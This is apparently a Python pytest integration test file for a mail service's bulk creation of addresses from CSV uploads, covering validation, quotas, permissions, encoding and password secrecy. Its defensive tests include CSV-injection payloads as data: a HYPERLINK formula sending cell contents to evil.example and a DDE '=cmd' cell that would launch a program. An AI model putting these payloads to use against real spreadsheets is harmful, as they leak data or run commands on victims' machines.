"""Bulk creation from CSV files (ADR-9) on the real SQLite engine.

The engine comes from ``open_engine(tmp_path, background=False)``; ``BulkCreation`` is
built from the parts of ``engine.host.addresses`` (its credential store, hasher, clock
and mail store: the embedded ``MaildirMailStore`` that ``open_engine`` wires by default),
or, on an engine that does not have them yet, from ``engine.host.accounts`` and a
``MaildirMailStore`` of its own.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import attrs
import pytest
from attrs import frozen

from application.bulk import (
    FORMULA_START,
    MAX_FIELD,
    MAX_ROWS,
    BulkCreation,
    BulkReport,
    CreatedRow,
    RowError,
)
from application.mailservices import MailServices
from application.ports import MailStore
from domain import ids
from domain.errors import NotFound, NotPermitted
from domain.mailbox import CreationMode, Mailbox
from domain.mailservice import AddressKind, MailService
from infrastructure.bootstrap import Engine, open_engine
from tests.integration.support import PASSWORD, event_count, stored_bytes

ORG = "Example Co"
DOMAIN = "example.com"
ANN = "ann@example.org"
BOB = "bob@example.org"
HEADER = "address,kind,users,targets,signature\n"


@frozen
class World:
    engine: Engine
    bulk: BulkCreation
    home: Path

    def apply(self, text: str | bytes) -> BulkReport:
        return self.bulk.apply(DOMAIN, _bytes(text))

    def check(self, text: str | bytes) -> BulkReport:
        return self.bulk.check(DOMAIN, _bytes(text))

    @property
    def service(self) -> MailService:
        return self.engine.host.services.get(DOMAIN)

    def mailbox(self, address: str) -> Mailbox:
        return self.engine.host.services.mailbox(address)[1]

    def position(self) -> int:
        return self.engine.host.log.recorder.max_notification_id() or 0

    def secrets(self) -> int:
        with sqlite3.connect(self.home / "credentials.sqlite") as db:
            (count,) = db.execute("SELECT count(*) FROM mh_secrets").fetchone()
        return int(count)

    def passwd(self) -> dict[str, str]:
        """The mail store's passwd-file: address -> hash, as Dovecot would read it."""
        path = getattr(getattr(self.bulk.store, "passwd", None), "path", None)
        assert path is not None, f"{self.bulk.store!r} keeps no passwd-file"
        if not Path(path).exists():
            return {}
        lines = Path(path).read_text(encoding="ascii").splitlines()
        return {
            line.split(":")[0]: line.split(":")[1]
            for line in lines
            if line and not line.startswith("#")
        }


def _count_writes(world: World) -> Callable[[], int]:
    """From now on, count the rewrites of the engine's passwd-file."""
    passwd = world.engine.host.addresses.store.passwd  # type: ignore[attr-defined]
    count = [0]
    original = passwd.update

    def counting(**changes: object) -> None:
        count[0] += 1
        original(**changes)

    passwd.update = counting
    return lambda: count[0]


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def _bulk(engine: Engine, home: Path) -> BulkCreation:
    host = engine.host
    addresses: Any = getattr(host, "addresses", None)
    if addresses is not None:
        parts: Any = addresses
        store: MailStore = addresses.store
    else:  # pragma: no cover - an engine assembled before the mail store was wired
        from infrastructure.mailstore import MaildirMailStore  # noqa: PLC0415

        parts = host.accounts
        store = MaildirMailStore(home / "mail")
    return BulkCreation(
        log=host.log,
        services=host.services,
        credentials=parts.credentials,
        hasher=parts.hasher,
        store=store,
        clock=parts.clock,
    )


def _open(home: Path, *, quota: int = 50) -> Engine:
    engine = open_engine(home, background=False)
    host = engine.host
    host.organisations.found(ORG)
    host.accounts.register(ORG, ANN, PASSWORD, display_name="Ann")
    host.accounts.register(ORG, BOB, PASSWORD, display_name="Bob")
    host.services.create(ORG, DOMAIN, quota=quota)
    host.services.save_signature_template(DOMAIN, "Standard", "-- \nExample Co")
    return engine


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    engine = _open(tmp_path)
    try:
        yield World(engine, _bulk(engine, tmp_path), tmp_path)
    finally:
        engine.close()


def _errors(report: BulkReport) -> list[tuple[int, str]]:
    return [(e.line, e.column) for e in report.errors]


def _message(report: BulkReport, line: int) -> str:
    return " | ".join(e.message for e in report.errors if e.line == line)


# -- a good file ------------------------------------------------------------------------


GOOD = (
    HEADER
    + "alice,mailbox,ann@example.org,,Standard\n"
    + "Team@example.com,,ann@example.org;bob@example.org,,\n"
    + "\n"
    + "  carol  ,  ,  ,  ,  \n"
    + "fwd,redirect,,x@elsewhere.org;y@elsewhere.org,\n"
    + "no-reply,no_reply,,,Standard\n"
)


def test_a_good_file_creates_every_row_and_returns_each_password_once(
    world: World,
) -> None:
    # rule ADR-9, rule ADR-4, rule ADR-6, rule ADR-10
    claims = event_count(world.engine, "MailService.AddressesClaimed")
    used = world.service.used

    report = world.apply(GOOD)

    assert report.ok, report.as_text()
    assert report.applied
    assert report.rows == 5
    assert report.errors == ()
    assert [c.address for c in report.created] == [
        "alice@example.com",
        "Team@example.com",
        "carol@example.com",
        "fwd@example.com",
        "no-reply@example.com",
    ]
    passwords = {c.address: c.password for c in report.created}
    assert passwords["fwd@example.com"] is None
    generated = [p for p in passwords.values() if p is not None]
    assert len(generated) == 4
    assert len(set(generated)) == 4
    assert all(len(p) >= 20 for p in generated)
    # One claim for the whole file, in the same transaction as the mailboxes.
    assert event_count(world.engine, "MailService.AddressesClaimed") == claims + 1
    assert world.service.used == used + 5

    alice = world.mailbox("alice@example.com")
    assert alice.kind is AddressKind.MAILBOX
    assert alice.mode is CreationMode.FOR_OTHERS
    assert alice.linked == {ids.account_id(ANN)}
    assert alice.signature == "-- \nExample Co"
    team = world.mailbox("team@example.com")
    assert set(team.users) == {ids.account_id(ANN), ids.account_id(BOB)}
    carol = world.mailbox("carol@example.com")
    assert carol.mode is CreationMode.UNASSIGNED
    assert carol.users == {}
    fwd = world.mailbox("fwd@example.com")
    assert fwd.kind is AddressKind.REDIRECT
    assert fwd.targets == ("x@elsewhere.org", "y@elsewhere.org")
    assert world.mailbox("no-reply@example.com").kind is AddressKind.NO_REPLY

    _assert_hashes_stored(world, passwords)

    # Shown once: in the report for people and programs, never in its repr.
    assert all(p in report.as_text() for p in generated)
    assert all(p in report.as_csv() for p in generated)
    assert not any(p in repr(report) or p in str(report.created) for p in generated)

    # rule SEC-6: no generated password in any stored byte (events, views, WAL files).
    world.engine.runner.catch_up()
    assert (world.home / "events.sqlite").exists()
    assert (world.home / "views.sqlite").exists()
    stored = stored_bytes(world.home)
    assert not any(p.encode() in stored for p in generated)


def _assert_hashes_stored(world: World, passwords: dict[str, str | None]) -> None:
    """The credential store and (its jobs run) the mail store hold each password's hash."""
    world.engine.drain()
    hasher = world.bulk.hasher
    store_hashes = world.passwd()
    for address, password in passwords.items():
        credential = world.mailbox(address).credential_id
        if password is None:
            assert credential is None
            assert address.lower() not in store_hashes
            continue
        assert credential is not None
        encoded = world.bulk.credentials.secret(credential)
        assert encoded is not None
        assert hasher.verify(encoded, password)
        assert store_hashes[address.lower()] == encoded


def test_check_changes_nothing_and_apply_then_agrees(world: World) -> None:
    # rule ADR-9
    before = world.position()
    checked = world.check(GOOD)
    assert checked.ok, checked.as_text()
    assert not checked.applied
    assert checked.created == ()
    assert "applying the file creates 5 address(es)" in checked.as_text()
    assert world.position() == before
    assert world.apply(GOOD).ok


def test_a_bom_and_a_semicolon_header_are_accepted(world: World) -> None:
    # rule ADR-9
    text = "Address;Kind;Users\r\nsemi;mailbox;ann@example.org\r\n"
    report = world.apply(b"\xef\xbb\xbf" + text.encode())
    assert report.ok, report.as_text()
    assert [c.address for c in report.created] == ["semi@example.com"]


def test_only_an_admin_of_the_organisation_may_check_or_apply(world: World) -> None:
    # rule ORG-1, rule ADR-9
    ann, bob = ids.account_id(ANN), ids.account_id(BOB)  # the first user is the admin
    before = world.position()
    with pytest.raises(NotPermitted):
        world.bulk.check(DOMAIN, b"address\nx\n", by=bob)
    with pytest.raises(NotPermitted):
        world.bulk.apply(DOMAIN, b"address\nx\n", by=bob)
    assert world.position() == before
    with pytest.raises(NotFound):
        world.bulk.apply("unknown.example", b"address\nx\n")

    assert world.bulk.apply(DOMAIN, b"address\nx\n", by=ann).ok
    assert world.mailbox("x@example.com").creator_id == ann


# -- one bad row: nothing -----------------------------------------------------------------


def test_one_bad_row_creates_nothing_and_the_report_names_it(world: World) -> None:
    # rule ADR-9: validated first, all or nothing
    world.engine.runner.catch_up()
    before = world.position()
    addresses = dict(world.service.addresses)
    directory = world.engine.host.directory.directory(DOMAIN)
    secrets = world.secrets()
    store = world.passwd()

    report = world.apply(
        HEADER + "good1\n" + "good2\n" + "bad..dots\n" + "good3,,ann@example.org\n"
    )

    assert not report.ok
    assert not report.applied
    assert report.created == ()
    assert report.rows == 4
    assert _errors(report) == [(4, "address")]
    assert "bad..dots" in report.errors[0].message
    assert "line 4, column address:" in report.as_text()
    assert "nothing was created" in report.as_text()
    # Nothing half-created: no event, no address, no secret, nothing in the mail store.
    assert world.position() == before
    assert world.service.addresses == addresses
    world.engine.runner.catch_up()
    assert world.engine.host.directory.directory(DOMAIN) == directory
    assert world.secrets() == secrets
    assert world.passwd() == store


def test_every_bad_row_is_reported_with_why(world: World) -> None:
    # rule ADR-9, rule ADR-10, rule ADR-12, rule ORG-1
    report = world.check(
        HEADER
        + "a,alias,,,\n"  # 2
        + "b,redirect,,,\n"  # 3
        + "c,mailbox,,x@elsewhere.org,\n"  # 4
        + "d,,stranger@example.org,,\n"  # 5
        + "e,,not a login,,\n"  # 6
        + "f,,,,Nope\n"  # 7
        + "g,redirect,ann@example.org,g@example.com,Standard\n"  # 8
        + "h,redirect,,bad target,\n"  # 9
        + "i,mailbox,,,,extra\n"  # 10
        + ",mailbox\n"  # 11
        + "j@elsewhere.org\n"  # 12
        + "k,mailbox\n"  # 13: a short row is fine
    )
    assert not report.ok
    assert _errors(report) == [
        (2, "kind"),
        (3, "targets"),
        (4, "targets"),
        (5, "users"),
        (6, "users"),
        (7, "signature"),
        (8, "users"),
        (8, "targets"),
        (8, "signature"),
        (9, "targets"),
        (10, ""),
        (11, "address"),
        (12, "address"),
    ]
    assert "not mailbox, redirect or no_reply" in _message(report, 2)
    assert "needs at least one target" in _message(report, 3)
    assert "only a redirect has targets" in _message(report, 4)
    assert "stranger@example.org is not a member" in _message(report, 5)
    assert "'Nope' does not exist" in _message(report, 7)
    assert "cannot point at itself" in _message(report, 8)
    assert "6 cells but the header 5 columns" in _message(report, 10)
    assert "not in the domain example.com" in _message(report, 12)


# -- duplicates and quota (ADR-1, ADR-2) ---------------------------------------------------


def test_duplicates_inside_the_file_name_both_lines(world: World) -> None:
    # rule ADR-2: unique case-insensitively; rule ADR-9
    report = world.apply(HEADER + "alice\n" + "bob\n" + "\n" + "ALICE@example.com\n")
    assert _errors(report) == [(5, "address")]
    assert "listed twice: on line 2 and line 5" in report.errors[0].message
    assert report.created == ()
    assert "alice" not in world.service.addresses


def test_duplicates_against_the_domain_are_refused(world: World) -> None:
    # rule ADR-2: across mailboxes, aliases and redirections; rule ADR-9
    host = world.engine.host
    host.addresses.create_unassigned("taken@example.com")
    host.addresses.add_alias("taken@example.com", "nick@example.com")
    before = world.position()

    report = world.apply(HEADER + "fresh\n" + "Taken\n" + "nick\n")

    assert _errors(report) == [(3, "address"), (4, "address")]
    assert "taken@example.com exists already" in _message(report, 3)
    assert "nick@example.com exists already (alias)" in _message(report, 4)
    assert world.position() == before
    assert "fresh" not in world.service.addresses


def test_quota_exceeded_names_the_numbers(tmp_path: Path) -> None:
    # rule ADR-1: a free slot per address; the whole file counts
    engine = _open(tmp_path, quota=5)
    try:
        world = World(engine, _bulk(engine, tmp_path), tmp_path)
        engine.host.addresses.create_unassigned("old@example.com")
        before = world.position()
        rows = "".join(f"user{i}\n" for i in range(6))
        report = world.apply(HEADER + rows)
        assert _errors(report) == [(0, "")]
        message = report.errors[0].message
        assert "needs 6 address slot(s) but 4 of 5 are free (1 used)" in message
        assert "by at least 2" in message
        assert world.position() == before
        assert report.as_text().splitlines()[1].startswith("  file: quota exceeded")
    finally:
        engine.close()


def test_an_address_taken_between_check_and_save_refuses_the_file(
    tmp_path: Path,
) -> None:
    # rule ADR-9: decided again on fresh state; the secrets written for it are dropped
    engine = _open(tmp_path)
    try:
        host = engine.host

        @frozen
        class Racing(MailServices):
            """Another admin creates ``race@`` as soon as the file has been checked."""

            calls: list[int]

            def get(self, domain: str) -> MailService:
                self.calls.append(1)
                if len(self.calls) == 2:  # the reload before the save
                    host.addresses.create_unassigned("race@example.com")
                return super().get(domain)

        bulk = _bulk(engine, tmp_path)
        racing = BulkCreation(
            log=bulk.log,
            services=Racing(host.log, host.services.clock, []),
            credentials=bulk.credentials,
            hasher=bulk.hasher,
            store=bulk.store,
            clock=bulk.clock,
        )
        world = World(engine, racing, tmp_path)
        secrets = world.secrets()

        report = world.apply(HEADER + "calm\n" + "race\n")

        assert _errors(report) == [(3, "address")]
        assert "race@example.com exists already" in report.errors[0].message
        assert "calm" not in world.service.addresses
        assert world.secrets() == secrets + 1  # race@'s own, not the file's two
    finally:
        engine.close()


# -- hostile files -----------------------------------------------------------------------


def test_a_file_that_is_not_utf8_is_refused_naming_line_and_offset(
    world: World,
) -> None:
    # rule ADR-9
    data = (HEADER + "ok\n" + "rené\n").encode("latin-1")
    report = world.apply(data)
    offset = data.index(b"\xe9")
    assert _errors(report) == [(3, "")]
    assert f"byte 0xE9 at offset {offset}" in report.errors[0].message
    assert "save the file as CSV UTF-8" in report.errors[0].message
    assert world.apply("\ufeffaddress\nx\n".encode("utf-16")).errors[0].message == (
        "the file is UTF-16, not UTF-8: save it as CSV UTF-8 and try again"
    )


def test_missing_and_unknown_columns_are_named(world: World) -> None:
    # rule ADR-9
    report = world.check("kind,users\nmailbox,\n")
    assert _errors(report) == [(1, "")]
    assert "no address column" in report.errors[0].message

    report = world.check("address,Colour,=cmd|' /C calc'!A0,password\nx,,,\n")
    assert [e.line for e in report.errors] == [1]
    message = report.errors[0].message
    assert "unknown column(s) 'colour', \"=cmd|' /c calc'!a0\", 'password'" in message
    assert "passwords are not taken from a file" in message

    # No header at all: the first row is read as one, and refused.
    report = world.check("alice,mailbox\n")
    assert "unknown column(s) 'alice', 'mailbox'" in report.errors[0].message
    assert "the first line must be the header" in report.errors[1].message

    assert world.check("address,address\nx,y\n").errors[0].message == (
        "column(s) address appear more than once in the header"
    )
    assert world.check(b"").errors[0].message.startswith("the file is empty")
    assert (
        world.check(b"\xef\xbb\xbf\n\n")
        .errors[0]
        .message.startswith("the file is empty")
    )
    assert world.check(HEADER).errors == (
        RowError(0, "", "the file has a header but no rows"),
    )


FORMULAS = (
    '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
    "+1",
    "@SUM(A1:A2)",
    "-2+3",
    "=1+2",  # a valid local part per RFC 5322, refused all the same
    '"\t=1+2"',
)


def test_formula_cells_are_refused_and_neutralised_in_the_csv_report(
    world: World,
) -> None:
    # rule ADR-9; OWASP CSV injection
    rows = [f"{cell},,,,\n" for cell in FORMULAS]
    rows += [
        "u1,mailbox,=cmd@example.org,,\n",
        "u2,redirect,,ok@example.org;+x@example.org,\n",
        "u3,mailbox,,,@Standard\n",
        "u4,=mailbox,,,\n",
    ]
    report = world.apply(HEADER + "".join(rows))

    assert not report.ok
    assert report.created == ()
    assert [e.line for e in report.errors] == list(range(2, 12))
    assert all("formula" in e.message for e in report.errors), report.as_text()

    parsed = list(csv.reader(io.StringIO(report.as_csv(), newline="")))
    assert parsed[0] == ["line", "column", "message"]
    assert len(parsed) == 1 + len(report.errors)
    for cells in parsed:
        assert not any(cell.startswith(FORMULA_START) for cell in cells), cells
    # Every cell is quoted, and a cell a spreadsheet would run is prefixed with '.
    assert all(line.startswith('"') for line in report.as_csv().splitlines() if line)
    hostile = BulkReport(
        ok=False, rows=1, errors=(RowError(2, "=cmd", '=HYPERLINK("x")'),)
    )
    assert list(csv.reader(io.StringIO(hostile.as_csv())))[1] == [
        "2",
        "'=cmd",
        '\'=HYPERLINK("x")',
    ]


def test_huge_fields_nul_bytes_and_control_characters_name_the_line(
    world: World,
) -> None:
    # rule ADR-9
    long_name = "x" * (MAX_FIELD + 1)
    enormous = "y" * 200_000  # past the csv module's own field limit
    report = world.apply(
        HEADER
        + f"{long_name}\n"  # 2
        + "ok1\n"  # 3
        + f"{enormous}\n"  # 4
        + "nul\x00here\n"  # 5
        + "ok2,,,,Standard\x07\n"  # 6
        + '"multi\nline",,,,\n'  # 7-8
        + "ok3\n"  # 9
        + '"unclosed,,,\n'  # 10: the quote runs to the end of the file
    )
    assert _errors(report) == [
        (2, "address"),
        (4, ""),
        (5, "address"),
        (6, "signature"),
        (7, "address"),
        (10, ""),
    ]
    assert f"{MAX_FIELD + 1:,} characters long; at most {MAX_FIELD:,}" in (
        report.errors[0].message
    )
    assert long_name not in report.as_text()
    assert "far longer than" in report.errors[1].message
    assert "NUL byte" in report.errors[2].message
    assert "U+0007" in report.errors[3].message
    assert "U+000A" in report.errors[4].message
    assert "not valid CSV" in report.errors[5].message
    assert report.created == ()


def test_limits_of_size_and_rows_are_refused_before_any_row_is_checked(
    world: World,
) -> None:
    # rule ADR-9
    big = HEADER.encode() + b"a" * (10 * 1024 * 1024)
    report = world.check(big)
    assert _errors(report) == [(0, "")]
    assert "at most 10,485,760 (10 MiB)" in report.errors[0].message

    many = HEADER + "\n".join(f"r{i}" for i in range(MAX_ROWS + 1)) + "\n"
    started = time.perf_counter()
    report = world.check(many)
    assert time.perf_counter() - started < 10
    assert _errors(report) == [(MAX_ROWS + 2, "")]
    assert "more than 100,000 rows" in report.errors[0].message


def test_a_failing_mail_store_loses_no_password_and_converges_once_back(
    world: World,
) -> None:
    # rule ADR-9: the save is the only write; the store follows by retried jobs
    class Down:
        def set_password(self, address: str, encoded: str) -> None:
            raise OSError(f"store down for {address} {len(encoded)}")

        def set_passwords(self, entries: Mapping[str, str]) -> None:
            raise OSError(f"store down for {len(entries)} addresses")

        def destroy(self, address: str) -> None:
            raise OSError(address)

    bulk = world.bulk
    down = BulkCreation(
        bulk.log, bulk.services, bulk.credentials, bulk.hasher, Down(), bulk.clock
    )
    report = down.apply(DOMAIN, (HEADER + "s1\ns2\nfw,redirect,,a@b.org\n").encode())
    assert report.ok
    passwords = {c.address: c.password for c in report.created}
    assert all(passwords[f"s{i}@example.com"] for i in (1, 2))
    boxes = [world.mailbox(address).id for address in passwords]
    failing = attrs.evolve(world.engine.host.addresses, store=Down())
    with pytest.raises(OSError, match="store down for 2 addresses"):
        failing.sync_store(boxes)  # the job fails, and stays due
    assert world.passwd() == {}
    _assert_hashes_stored(world, passwords)  # the store is back: the jobs write it


# -- large files (10,000 rows) ----------------------------------------------------------------


def _log_and_views(home: Path) -> bytes:
    """The event log and the read models, with their WAL files."""
    files = sorted([*home.glob("events.sqlite*"), *home.glob("views.sqlite*")])
    assert {f.name for f in files} >= {"events.sqlite", "views.sqlite"}
    return b"".join(f.read_bytes() for f in files)


def _large(rows: int) -> list[str]:
    lines = [HEADER.rstrip("\n")]
    for i in range(rows):
        if i % 10 == 0:
            lines.append(f"fwd{i},redirect,,t{i}@elsewhere.org,")
        elif i % 10 == 1:
            lines.append(f"team{i},mailbox,ann@example.org;bob@example.org,,Standard")
        else:
            lines.append(f"user{i},,,,")
    return lines


def test_ten_thousand_rows_are_checked_and_created_in_one_transaction(
    tmp_path: Path,
) -> None:
    # rule ADR-9, rule ADR-1
    engine = _open(tmp_path, quota=10_000)
    try:
        world = World(engine, _bulk(engine, tmp_path), tmp_path)
        before = world.position()
        data = ("\n".join(_large(10_000)) + "\n").encode()

        started = time.perf_counter()
        assert world.check(data).ok
        report = world.apply(data)
        elapsed = time.perf_counter() - started

        assert report.ok, report.as_text()[:2000]
        assert len(report.created) == 10_000
        # A generous bound: linear work takes seconds; a per-row scan would take minutes.
        assert elapsed < 30, elapsed
        # One claim event and one Created event per address, nothing else.
        assert world.position() == before + 1 + 10_000
        assert world.service.free == 0
        writes = _count_writes(world)
        engine.drain()
        assert len(world.passwd()) == 9_000  # redirects have no password
        # Jobs in batches: one passwd-file rewrite per batch, not one per address.
        assert 0 < writes() <= 9_000 // 500 + 1
        team = world.mailbox("team9991@example.com")
        assert team.mode is CreationMode.FOR_OTHERS
        assert team.signature == "-- \nExample Co"

        # rule SEC-6: a sample of the passwords, none in the events or the views.
        engine.runner.catch_up()
        stored = _log_and_views(tmp_path)
        passwords = [c.password for c in report.created if c.password is not None]
        assert len(passwords) == 9_000
        for password in passwords[::180]:
            assert password.encode() not in stored
    finally:
        engine.close()


def test_ten_thousand_rows_with_one_bad_row_create_nothing(tmp_path: Path) -> None:
    # rule ADR-9: all or nothing, on a large file
    engine = _open(tmp_path, quota=10_000)
    try:
        world = World(engine, _bulk(engine, tmp_path), tmp_path)
        lines = _large(10_000)
        assert lines[9_998].startswith("user9997,")  # line 9,999 of the file
        lines[9_998] = "user 9997,,,,"
        before = world.position()
        secrets = world.secrets()

        report = world.apply(("\n".join(lines) + "\n").encode())

        assert not report.ok
        assert report.rows == 10_000
        assert _errors(report) == [(9_999, "address")]
        assert report.created == ()
        assert world.position() == before
        assert world.service.used == 0
        assert world.secrets() == secrets
        assert world.passwd() == {}
    finally:
        engine.close()


def test_reports_never_show_passwords_in_their_repr() -> None:
    # rule SEC-6: shown once, by as_text/as_csv on purpose, never by accident
    report = BulkReport(
        ok=True,
        rows=1,
        created=(CreatedRow("a@example.com", "s3cret-canary"),),
        applied=True,
    )
    assert "s3cret-canary" in report.as_text()
    assert "s3cret-canary" not in repr(report)
    assert "s3cret-canary" not in str(report.created)
    assert "a@example.com" in repr(report)
    address, password = report.created[0]
    assert (address, password) == ("a@example.com", "s3cret-canary")
